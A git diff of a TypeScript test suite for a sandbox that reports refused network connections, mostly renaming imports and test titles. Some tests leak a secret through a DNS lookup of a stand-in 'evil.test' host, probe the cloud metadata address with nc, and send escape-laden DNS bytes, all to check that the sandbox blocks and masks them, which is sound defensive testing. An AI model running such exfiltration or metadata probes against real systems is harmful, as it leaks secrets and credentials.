@@ -1,14 +1,15 @@
 import { readFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
-import type { AllowList } from '../../allow-list.ts'
-import { type Refusal, type SandboxRuntime, sandboxRuntimes } from '../../port.ts'
-import { shellJob, type TestAgent, until } from '../test-agent.ts'
-import { beyond, machine } from './fake-internet.ts'
+import type { AllowList } from '../../port/allow-list.ts'
+import type { Refusal } from '../../port/network-refusals.ts'
+import { type SandboxRuntime, sandboxRuntimes } from '../../port/sandbox-spec.ts'
+import { machine, publicHosts } from '../testing/internet/fake-internet.ts'
+import { type ResolvingAgent, startResolvingAgent } from '../testing/internet/resolving-agent.ts'
+import { shellJob, type TestAgent, waitUntil } from '../testing/test-agent.ts'
 import { parseRefusals } from './refusals.ts'
-import { type ResolvingAgent, startResolvingAgent } from './resolving-agent.ts'
 
-/* What is told of a sandbox's refused connections. */
+/* Reports of a sandbox's refused connections. */
 
 let machineOfAgent: ResolvingAgent
 let agent: TestAgent
@@ -18,7 +19,13 @@ let image: string
 beforeAll(async () => {
   machineOfAgent = await startResolvingAgent(['10.9.9.9'])
   ;({ agent, folder } = machineOfAgent)
-  await agent.onHost('cc', '-static', '-o', `${folder}/datagram`, join(import.meta.dirname, 'datagram.c'))
+  await agent.onHost(
+    'cc',
+    '-static',
+    '-o',
+    `${folder}/datagram`,
+    join(import.meta.dirname, '../testing/internet/datagram.c'),
+  )
   image = await agent.image([[{ name: 'datagram', mode: 0o755 }, await readFile(`${folder}/datagram`)]])
 }, 60_000)
 afterAll(() => machineOfAgent.dispose(), 60_000)
@@ -39,11 +46,11 @@ const connect = (address: string, port: number) => `echo | nc -w 1 ${address} ${
 const hex4 = (address: string) => Buffer.from(address.split('.').map(Number)).toString('hex')
 
 describe.each(sandboxRuntimes)('on %s', (runtime) => {
-  test('each refused connection is told with its reason, those alike as one with a count', async () => {
+  test('each refused connection is reported with its reason, equal ones as one entry with a count', async () => {
     const before = Date.now()
     const script = [
       ...['10.9.9.9', '10.9.9.9', '10.9.9.9', '169.254.169.254', machine.ip4].map((ip) => connect(ip, 80)),
-      ...[connect(machine.ip6, 22), connect(beyond.ip4, 53), connect(beyond.ip4, 443)],
+      ...[connect(machine.ip6, 22), connect(publicHosts.ip4, 53), connect(publicHosts.ip4, 443)],
       `/datagram x 123 - 10.9.9.9; sleep 0.2`,
     ].join('; ')
     const refused = await refusedTo(script, { runtime })
@@ -53,7 +60,7 @@ describe.each(sandboxRuntimes)('on %s', (runtime) => {
       { ...tcp, reason: 'metadata_address', address: '169.254.169.254' },
       { ...tcp, reason: 'host_address', address: machine.ip4 },
       { ...tcp, reason: 'host_address', address: machine.ip6, port: 22 },
-      { ...tcp, reason: 'foreign_resolver', address: beyond.ip4, port: 53 },
+      { ...tcp, reason: 'foreign_resolver', address: publicHosts.ip4, port: 53 },
       { ...tcp, reason: 'not_public_address', protocol: 'udp', address: '10.9.9.9', port: 123 },
     ])
     expect(refused?.more).toBe(0)
@@ -64,20 +71,27 @@ describe.each(sandboxRuntimes)('on %s', (runtime) => {
   })
 })
 
-test('what a list keeps out is told, by name or by address', async () => {
+test('names and addresses outside an allow list are reported', async () => {
   const inside = `${hex4('10.9.9.9')}.test`
   const names = ['Secret.Example.TEST', inside]
-  const script = `${names.map((name) => `nslookup -type=a ${name}`).join('; ')}; ${connect(beyond.other4, 443)}; true`
+  const script = `${names.map((name) => `nslookup -type=a ${name}`).join('; ')}; ${connect(publicHosts.other4, 443)}; true`
   const refused = await refusedTo(script, { allow: { names: [inside], ranges: [] } })
   const asked = { protocol: 'dns', port: 0, count: 1 }
   expect(refused?.entries.map(without)).toEqual([
     { ...asked, reason: 'name_not_in_allow_list', name: 'secret.example.test', address: '' },
     { ...asked, reason: 'name_has_inner_address', name: inside, address: '10.9.9.9' },
-    { reason: 'not_in_allow_list', protocol: 'tcp', name: '', address: beyond.other4, port: 443, count: 1 },
+    {
+      reason: 'not_in_allow_list',
+      protocol: 'tcp',
+      name: '',
+      address: publicHosts.other4,
+      port: 443,
+      count: 1,
+    },
   ])
 })
 
-describe('a value that is to be masked', () => {
+describe('a masked value', () => {
   const secret = 'tr0ub4dor-and-3'
   const spec = () => ({
     ...shellJob(image, `nslookup -type=a ${secret}.evil.test; sleep 1`, { timeoutMs: 60_000 }),
@@ -86,16 +100,16 @@ describe('a value that is to be masked', () => {
   const kept = async (id: string) =>
     await agent.onHost('grep', '-rlF', secret, `${agent.dataDir}/agent/sandboxes/${id}`).catch(() => '')
 
-  test('is in no name that was refused', async () => {
+  test('does not appear in refused names', async () => {
     const asking = spec()
     await agent.client.start(asking, Buffer.alloc(0), [secret])
     const { network } = await agent.client.wait(asking.id)
     expect(network.refused?.entries.map(({ name }) => name)).toEqual(['[masked].evil.test'])
-    // Nothing but this test's own command line says it.
+    // Only this test's own command line contains it.
     expect(await kept(asking.id)).not.toContain('refusals')
   })
 
-  test('stays masked where the agent that knew it has died', async () => {
+  test('stays masked after the agent that knew it has died', async () => {
     const asking = spec()
     await agent.client.start(asking, Buffer.alloc(0), [secret])
     await agent.end('SIGKILL')
@@ -106,11 +120,11 @@ describe('a value that is to be masked', () => {
   })
 })
 
-test('a sandbox to which nothing was refused has no such list', async () => {
-  expect(await refusedTo(connect(beyond.ip4, 80))).toBeUndefined()
+test('a sandbox without refusals has no list of them', async () => {
+  expect(await refusedTo(connect(publicHosts.ip4, 80))).toBeUndefined()
 })
 
-test('what was refused to one sandbox is not told of another', async () => {
+test('refusals of one sandbox are not reported for another', async () => {
   const [one, other] = await Promise.all([
     refusedTo(connect('10.9.9.9', 81)),
     refusedTo(connect('10.9.9.9', 82)),
@@ -118,7 +132,7 @@ test('what was refused to one sandbox is not told of another', async () => {
   expect([one, other].map((refused) => refused?.entries.map(({ port }) => port))).toEqual([[81], [82]])
 })
 
-test('a name of any bytes comes as printable text of bounded length', async () => {
+test('a name of arbitrary bytes is reported as printable text of bounded length', async () => {
   const question = String.raw`\000\032\022\064\001\000\000\001\000\000\000\000\000\000\010\033[1m\n\000.,\000\000\001\000\001`
   const long = `${'%'.repeat(60)}.`.repeat(4)
   const script = `printf '${question}' | timeout 2 nc 198.18.0.1 53 >/dev/null; nslookup -type=a '${long}test'; true`
@@ -143,16 +157,16 @@ test('a flood of refused connections and names is bounded, counted, and costs th
   console.log(`2000 datagrams and 400 names refused: 200 told, ${refused?.more} counted`)
 }, 60_000)
 
-test('what was refused can be read again, by the next agent too', async () => {
+test('refusals can be read again, also by the next agent', async () => {
   const network = { egressCapBytes: 1024 ** 3 }
   const spec = { ...shellJob(image, connect('10.9.9.9', 83)), network }
   await agent.run(spec)
   await agent.end('SIGTERM')
   await agent.start()
-  await until(async () => (await agent.client.wait(spec.id)).network.refused?.entries[0]?.port === 83)
+  await waitUntil(async () => (await agent.client.wait(spec.id)).network.refused?.entries[0]?.port === 83)
 })
 
-test('lines that no resolver of ours writes are left out', () => {
+test('malformed lines of a resolver are dropped', () => {
   const good = 'refused 1 6 10.0.0.1 80 2 1000 2000 -'
   const bad = ['refused 99 6 - 80 1 1 1 -', 'refused 1 6 <b> 80 1 1 1 -', 'refused 1 6 - 80 1 1 1 <b>', 'x']
   expect(parseRefusals([...bad, good, 'more 7'])).toEqual({
